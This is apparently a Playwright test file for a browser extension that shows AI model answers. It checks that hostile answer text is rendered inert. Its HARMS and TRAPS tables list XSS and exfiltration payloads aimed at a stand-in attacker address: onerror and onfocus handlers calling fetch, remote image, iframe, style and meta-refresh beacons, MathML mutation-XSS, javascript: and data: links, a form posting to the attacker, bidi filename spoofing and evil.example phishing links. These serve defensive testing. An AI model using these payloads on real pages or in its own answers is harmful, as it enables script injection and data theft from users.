"""A hostile answer makes no request, runs no script, and opens no page."""

import pytest
from playwright.sync_api import Request, expect

from .extension import Extension, Surface
from .fake_servers import Attacker
from .processes import GATEWAY

# AT stands for the attacker's address.
HARMS = {
    "image with a handler": "<img src=x onerror=\"window.harmed = 1; fetch('AT/onerror')\">",
    "remote image": '<img src="AT/img">',
    "remote image in Markdown": "![a picture](AT/markdown-image)",
    "remote image by reference": "![a picture][far]\n\n[far]: AT/reference-image",
    "script": "<script>window.harmed = 1; fetch('AT/script')</script>",
    "remote script": '<script src="AT/remote-script"></script>',
    "svg": "<svg onload=\"window.harmed = 1\"><image href='AT/svg'/></svg>",
    "frame": '<iframe src="AT/frame"></iframe>',
    "frame with a document": "<iframe srcdoc=\"<img src='AT/srcdoc'>\"></iframe>",
    "object": '<object data="AT/object"></object><embed src="AT/embed">',
    "style": "<style>@import url(AT/style); body { background: url(AT/bg) }</style>",
    "style of an element": '<p style="background: url(AT/inline)">text</p>',
    "link element": '<link rel="stylesheet" href="AT/link">',
    "refresh": '<meta http-equiv="refresh" content="0; url=AT/refresh">',
    "base": '<base href="AT/">',
    "video": '<video src="AT/video" autoplay></video><audio src="AT/audio">',
    "autofocus": "<input autofocus onfocus=\"window.harmed = 1; fetch('AT/focus')\">",
    "details": "<details open ontoggle=\"window.harmed = 1; fetch('AT/toggle')\">",
    "foreign namespaces": (
        "<math><mtext><table><mglyph><style><img src=AT/mxss onerror='window.harmed=1'>"
    ),
    "image in a table": "| a |\n|---|\n| ![x](AT/table-image) |",
    "image within a link": "[![x](AT/linked-image)](AT/link)",
    "MathML that refers": (
        '<math href="javascript:window.harmed=1"><mglyph src="AT/mglyph"/>'
        "<annotation-xml encoding='text/html'><img src=AT/annotation></annotation-xml></math>"
    ),
    "formula with a picture": "\\[ \\includegraphics{AT/formula.png} \\]",
    "formula with HTML": "\\( \\text{<img src=AT/text onerror='window.harmed=1'>} \\)",
    "formula that never ends": "$$ \\def\\a{\\a\\a} \\a $$",
    "code that is HTML": "```html\n<img src='AT/code' onerror='window.harmed = 1'>\n```",
    "language that is HTML": "```\"><img/src='AT/language'>\ncode\n```",
    "quotations without end": ">" * 400,
    "lists without end": "- " * 200,
    "brackets without end": "[" * 300 + "![" * 100,
    "emphasis without end": "**_" * 100,
    "turned direction": "The file \u202egpj.exe\u202c and \u2066this\u2069",
}

TRAPS = {
    "script link": "[press me](javascript:window.harmed=1)",
    "script link in HTML": '<a href="javascript:window.harmed=1">press me</a>',
    "hidden script link": "[press me](&#106;ava&#115;cript:window.harmed=1)",
    "link within a formula": "$\\href{javascript:window.harmed=1}{press~me}$ press me",
    "data link": "[press me](data:text/html,<script>window.harmed=1</script>)",
    "form": '<form action="AT/form" method="post"><button>press me</button></form>',
    "button with a handler": '<button onclick="window.harmed = 1">press me</button>',
}


def echo(popup: Surface, text: str) -> None:
    """Have the provider answer with exactly this text."""
    popup.ask_and_wait(f"[[sandbox: echo]] {text}\n\nThe end of the answer.")
    expect(popup.response).to_contain_text("The end of the answer.")
    answer: str = popup.generations()[0]["text"]
    assert answer.startswith(text)


def expect_unharmed(popup: Surface, attacker: Attacker, others: list[str]) -> None:
    """Check that no script has run and no request was made."""
    assert popup.page.evaluate("window.harmed") is None
    # The attacker's server can be reached from here: only the answer did not call it.
    heard = f"{attacker.address}/heard"
    popup.page.evaluate("address => fetch(address, { credentials: 'omit' })", heard)
    assert attacker.requests == ["GET /heard"]
    attacker.requests.clear()
    assert others == [heard]
    others.clear()
    assert popup.page.url.startswith("chrome-extension://")
    assert popup.page.url.endswith("/popup.html")


def requests_to_others(popup: Surface) -> list[str]:
    """Record requests of the page to anybody but the gateway and the extension itself."""
    others: list[str] = []

    def record(request: Request) -> None:
        if not request.url.startswith((f"{GATEWAY}/", "chrome-extension://")):
            others.append(request.url)

    popup.page.on("request", record)
    return others


def test_nothing_in_an_answer_calls_home_or_runs(popup: Surface) -> None:
    others = requests_to_others(popup)
    with Attacker().listening() as attacker:
        text = "\n\n".join(HARMS.values()).replace("AT", attacker.address)
        echo(popup, text)
        for tag in ("img", "script", "iframe", "object", "embed", "style", "link", "form", "video"):
            expect(popup.response.locator(tag)).to_have_count(0)
        expect(popup.response).to_contain_text(f"{attacker.address}/markdown-image")
        expect(popup.response).to_contain_text("\\includegraphics")
        expect_unharmed(popup, attacker, others)
        # Nor when it is shown again as a whole.
        popup.page.reload()
        expect(popup.response).to_contain_text("The end of the answer.")
        expect_unharmed(popup, attacker, others)


def test_a_trap_that_is_pressed_does_nothing(extension: Extension, popup: Surface) -> None:
    others = requests_to_others(popup)
    with Attacker().listening() as attacker:
        echo(popup, "\n\n".join(TRAPS.values()).replace("AT", attacker.address))
        pressed = popup.response.get_by_text("press me").all()
        assert len(pressed) == len(TRAPS)
        for trap in pressed:
            trap.click()
        expect_unharmed(popup, attacker, others)
        assert len(extension.context.pages) == 2, "no new tab"


def test_what_cannot_be_seen_is_marked_and_copied_as_it_is(
    extension: Extension, popup: Surface
) -> None:
    text = "pass\u200bword, file \u202egpj.exe, hi\U000e0068\U000e0069, \U0001f469\u200d\U0001f680"
    popup.prompt.fill(f"[[sandbox: echo]] {text}")
    expect(popup.page.get_by_text("The prompt has 4 invisible characters.")).to_be_visible()
    popup.generate.click()
    expect(popup.status).to_have_text("Answer ready")
    marks = ("Invisible character U+200B", "2 invisible characters from U+E0068 on")
    for name in (*marks, "Invisible character U+202E"):
        # In the answer, and in what was sent.
        expect(popup.response.get_by_role("img", name=name)).to_be_visible()
        expect(popup.page.get_by_role("img", name=name)).to_have_count(2)
    popup.copy.click()
    expect(popup.page.get_by_text("Copied", exact=True)).to_be_attached()
    assert text in extension.clipboard()


def test_what_cannot_be_seen_is_counted_in_every_prompt_and_left_out_of_titles(
    extension: Extension, popup: Surface
) -> None:
    prompt = "pass\u200bword \u2069\u202egpj.exe, hi\U000e0068\U000e0069"
    count = "The prompt has 5 invisible characters."
    compare = extension.open_compare()
    compare.prompt.fill(prompt)
    expect(compare.page.get_by_text(count)).to_be_visible()

    # All of it is beyond what is shown of a collapsed prompt.
    popup.ask_and_wait("\n".join(["Who lived here?", *"abcdefgh", prompt]))
    popup.prompt.fill("")
    expect(popup.page.get_by_text(count)).to_be_visible()

    popup.ask_and_wait(prompt)
    popup.history.click()
    newest = popup.conversations().first
    expect(newest.locator("bdi")).to_have_text("password gpj.exe, hi")
    expect(newest.get_by_title("Delete “password gpj.exe, hi”", exact=True)).to_be_visible()


def test_a_link_shows_where_it_leads(popup: Surface) -> None:
    echo(popup, "[your bank](https://evil.example/login)")
    link = popup.response.get_by_role("link", name="your bank")
    expect(link).to_have_attribute("href", "https://evil.example/login")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(popup.response).to_contain_text("your bank evil.example")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://good.example@evil.example/", "evil.example"),
        ("good.example.evil.example", "good.example.evil.example"),
    ],
)
def test_a_link_cannot_seem_to_lead_elsewhere(popup: Surface, text: str, shown: str) -> None:
    echo(popup, f"[{text}](https://evil.example/login)")
    host = popup.response.get_by_text("evil.example", exact=True)
    expect(host).to_be_visible()
    assert shown in popup.response.inner_text()


def test_html_in_an_answer_is_shown_as_what_it_is(popup: Surface) -> None:
    echo(popup, "Write `<b>` or <b>this</b> & that")
    expect(popup.response).to_contain_text("Write <b> or <b>this</b> & that")
    expect(popup.response.locator("b")).to_have_count(0)
